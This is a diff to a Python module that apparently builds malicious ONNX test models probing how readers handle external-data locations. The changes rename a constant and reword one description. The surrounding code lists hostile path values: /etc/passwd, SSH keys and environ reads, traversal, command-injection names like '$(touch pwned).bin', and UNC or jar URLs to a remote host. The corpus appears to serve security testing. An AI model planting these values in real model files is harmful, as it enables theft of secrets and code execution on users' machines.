@@ -35,7 +35,7 @@ from .writer import (
     values,
 )
 
-READERS = "onnx, onnxruntime, OpenVINO, converters"
+AFFECTED = "onnx, onnxruntime, OpenVINO, converters"
 WEIGHTS = struct.pack("<4f", 1, 2, 3, 4)
 OUTSIDE = "../outside.bin"
 
@@ -51,7 +51,7 @@ def add_path_attacks(attack, rows, **options):
         attack(name, effect, model_with_location(location), **options)
 
 
-attack = declare("path-absolute", "files", "External data has an absolute path.", "CWE-36", READERS)
+attack = declare("path-absolute", "files", "External data has an absolute path.", "CWE-36", AFFECTED)
 add_path_attacks(attack, [("passwd", "The location is /etc/passwd.", "/etc/passwd"), ("environ",
     "The location is /proc/self/environ: secrets in environment variables.", "/proc/self/environ"), ("memory",
     "The location is /proc/self/mem.", "/proc/self/mem"), ("ssh-key", "The location is /root/.ssh/id_rsa.",
@@ -59,7 +59,7 @@ add_path_attacks(attack, [("passwd", "The location is /etc/passwd.", "/etc/passw
     "//etc/passwd"), ("slash-dot", "The location is /./etc/passwd.", "/./etc/passwd"), ("leading-space",
     "The location is ' /etc/passwd' with a space that some readers strip.", " /etc/passwd"), ("file-url",
     "The location is the URL file:///etc/passwd.", "file:///etc/passwd")], cve="CVE-2022-25882")
-attack = declare("path-traversal", "files", "External data leaves the model's folder by '..'.", "CWE-22", READERS)
+attack = declare("path-traversal", "files", "External data leaves the model's folder by '..'.", "CWE-22", AFFECTED)
 add_path_attacks(attack, [("parent", "The location is ../outside.bin.", OUTSIDE), ("many-parents",
     "The location is ../../../../../../etc/passwd.", "../../../../../../etc/passwd")], cve="CVE-2022-25882")
 add_path_attacks(attack, [("through-folder",
@@ -79,11 +79,11 @@ add_path_attacks(attack, [("backslash", "The location is ..\\outside.bin: up on 
     ("parent-only", "The location is '..'.", "..")])
 attack("write-target", "Saving with external data would write to ../outside.bin.", model_with_location(OUTSIDE,
     offset=0, length=16), cve="CVE-2025-51480")
-attack("with-checksum", "The location is ../outside.bin, with offset, length and a checksum as sound files have.",
+attack("with-checksum", "The location is ../outside.bin, with offset, length and a checksum as benign models have.",
     model_with_location(OUTSIDE, offset=4096, length=16, checksum="0" * 40), cve="CVE-2024-27318")
 
 attack = declare("path-expansion", "files",
-    "A location is a path outside of the folder after an expansion that some readers do.", "CWE-73", READERS)
+    "A location is a path outside of the folder after an expansion that some readers do.", "CWE-73", AFFECTED)
 add_path_attacks(attack, [("percent-dots", "%2e%2e/outside.bin", "%2e%2e/outside.bin"), ("percent-slash",
     "..%2foutside.bin", "..%2foutside.bin"), ("percent-twice", "%252e%252e%252foutside.bin, decoded twice.",
     "%252e%252e%252foutside.bin"), ("percent-absolute", "%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd"), ("percent-nul",
@@ -93,7 +93,7 @@ add_path_attacks(attack, [("percent-dots", "%2e%2e/outside.bin", "%2e%2e/outside
     ("command", "$(touch pwned).bin", "$(touch pwned).bin"), ("pipe-command", "|id, which old open functions run",
     "|id"), ("glob", "*.bin", "*.bin")])
 attack = declare("path-network", "files",
-    "A location is a network address: a reader may send requests or credentials.", "CWE-918", READERS)
+    "A location is a network address: a reader may send requests or credentials.", "CWE-918", AFFECTED)
 add_path_attacks(attack, [("unc", "\\\\192.0.2.1\\share\\w.bin: Windows sends the user's hash.",
     "\\\\192.0.2.1\\share\\w.bin"), ("unc-slashes", "//192.0.2.1/share/w.bin", "//192.0.2.1/share/w.bin"), (
     "unc-webdav", "\\\\192.0.2.1@80\\share\\w.bin", "\\\\192.0.2.1@80\\share\\w.bin"), ("https",
@@ -105,7 +105,7 @@ add_path_attacks(attack, [("unc", "\\\\192.0.2.1\\share\\w.bin: Windows sends th
     "smb://192.0.2.1/share/w.bin"), ("jar-url", "jar:http://192.0.2.1/x.jar!/w.bin",
     "jar:http://192.0.2.1/x.jar!/w.bin")])
 attack = declare("path-windows", "files",
-    "A location means something else on Windows: drives, devices, streams, stripped characters.", "CWE-67", READERS)
+    "A location means something else on Windows: drives, devices, streams, stripped characters.", "CWE-67", AFFECTED)
 add_path_attacks(attack, [("drive-absolute", "C:\\Windows\\win.ini", "C:\\Windows\\win.ini"), ("drive-slashes",
     "C:/Windows/win.ini", "C:/Windows/win.ini"), ("drive-relative",
     "C:w.bin, relative to the current folder of drive C", "C:w.bin"), ("root-relative",
@@ -118,7 +118,7 @@ add_path_attacks(attack, [("drive-absolute", "C:\\Windows\\win.ini", "C:\\Window
     "'weights.bin ' (Windows strips the space)", "weights.bin "), ("short-name", "PROGRA~1\\w.bin",
     "PROGRA~1\\w.bin")])
 attack = declare("path-device", "files", "A location is a device, a pipe or a folder: reads do not end or block.",
-    "CWE-66", READERS)
+    "CWE-66", AFFECTED)
 add_path_attacks(attack, [("zero", "/dev/zero never ends.", "/dev/zero"), ("random", "/dev/random", "/dev/random"), (
     "stdin", "/dev/stdin blocks.", "/dev/stdin"), ("tty", "/dev/tty", "/dev/tty"), ("file-descriptor",
     "/proc/self/fd/0", "/proc/self/fd/0"), ("folder", "The location is '.', the model's folder.", "."), ("empty",
@@ -129,7 +129,7 @@ attack("named-pipe", "The location is a named pipe in the folder: opening it blo
 
 attack = declare("path-characters", "files",
     "A location has NUL, control or invisible characters, so that checks and the system see different names.",
-    "CWE-158", READERS)
+    "CWE-158", AFFECTED)
 add_path_attacks(attack, [("nul-suffix", "'nul.bin' NUL '.txt': C functions stop at the NUL.", "nul.bin\0.txt"), (
     "nul-parent", "'../outside.bin' NUL 'x/../../w.bin'.", "../outside.bin\0x/../../w.bin"), ("newline",
     "A newline in the location forges log lines.", "w.bin\nINFO: checksum ok"), ("escape",
@@ -161,7 +161,7 @@ attack("proc-link", "The location goes through /proc/self/cwd by a link.", model
 
 # Ranges
 
-attack = declare("range-beyond-file", "files", "Offset and length lead beyond the file.", "CWE-125", READERS)
+attack = declare("range-beyond-file", "files", "Offset and length lead beyond the file.", "CWE-125", AFFECTED)
 FILES = {"range.bin": bytes(64)}
 
 
@@ -191,7 +191,7 @@ attack("sparse-file", "The file is 1 TiB of zeros that take no disk space; the t
     cwe="CWE-400")
 
 attack = declare("range-not-number", "files",
-    "Offset or length is no plain decimal number: readers parse it differently.", "CWE-1286", READERS)
+    "Offset or length is no plain decimal number: readers parse it differently.", "CWE-1286", AFFECTED)
 FILES = {"number.bin": bytes(range(64))}
 
 
@@ -215,7 +215,7 @@ number_attack("length-nan", "The length is 'nan'.", "0", "nan")
 number_attack("length-suffix", "The length is 16K.", "0", "16K")
 
 attack = declare("length-mismatch", "files", "The length of external data differs from what the shape needs.",
-    "CWE-131", READERS)
+    "CWE-131", AFFECTED)
 FILES = {"mismatch.bin": bytes(4096)}
 
 
@@ -233,7 +233,7 @@ length_attack("unaligned", "An offset of 3: a mapped view is misaligned.", offse
 length_attack("scalar", "A scalar with a length of 64.", dims=(), length=64)
 
 attack = declare("range-overlap", "files",
-    "Ranges of tensors overlap: writing one changes another, or content is counted twice.", "CWE-1260", READERS)
+    "Ranges of tensors overlap: writing one changes another, or content is counted twice.", "CWE-1260", AFFECTED)
 
 
 def overlap_attack(name, effect, first, second, size=64):
@@ -257,7 +257,7 @@ attack("quadratic", "300 tensors of 1 MiB each in a file of 1 MiB: reading all c
     300)]), files={"mega.bin": Sparse(1 << 20)}, cwe="CWE-409")
 
 attack = declare("own-file", "files", "External data is the model itself or another file of its kind.", "CWE-610",
-    READERS)
+    AFFECTED)
 attack("model", "The location is the model file.", model_with_location("model.onnx"), files={})
 attack("model-with-range", "The location is the model file, the range its first 16 bytes.",
     model_with_location("model-with-range.onnx", offset=0, length=16))
@@ -271,7 +271,7 @@ attack("hardlink-to-model", "The location is a hard link to the model file.", mo
 attack("upper-case", "The location is MODEL.ONNX: the model on file systems that ignore case.",
     model_with_location("UPPER-CASE.ONNX"))
 
-attack = declare("shared-range", "files", "Unrelated tensors share the same bytes of a file.", "CWE-1260", READERS)
+attack = declare("shared-range", "files", "Unrelated tensors share the same bytes of a file.", "CWE-1260", AFFECTED)
 FILES = {"shared.bin": bytes(64)}
 
 
@@ -293,7 +293,7 @@ shared_bytes_attack("float-and-int8", "Weights and a quantized tensor are the sa
 # Checksums
 
 attack = declare("checksum", "files", "The checksum of external data is wrong or no digest: the file was exchanged.",
-    "CWE-354", READERS)
+    "CWE-354", AFFECTED)
 
 
 def checksum_attack(name, effect, text):
@@ -311,7 +311,7 @@ checksum_attack("empty", "The checksum is empty.", "")
 checksum_attack("of-range-only", "The checksum is prefixed with 'sha1:'.", "sha1:" + hashlib.sha1(WEIGHTS).hexdigest())
 
 attack = declare("path-ambiguous", "files", "Two names may be one file, or a place that other users can write to.",
-    "CWE-367", READERS)
+    "CWE-367", AFFECTED)
 
 
 def two_paths_attack(name, effect, first, second, files):
@@ -392,7 +392,7 @@ attack("in-constant", "The marker is in the tensor of a Constant.", network([nod
     source=SOURCE)
 
 attack = declare("path-hidden", "files", "External data outside of the folder is where checks do not look.", "CWE-22",
-    READERS)
+    AFFECTED)
 OUTSIDE_TENSOR = external(None, location=OUTSIDE)
 SECRET = external("e", location=OUTSIDE)
 attack("constant", "In the tensor of a Constant.", network([node("Constant", [], ["c"], value=OUTSIDE_TENSOR), node(
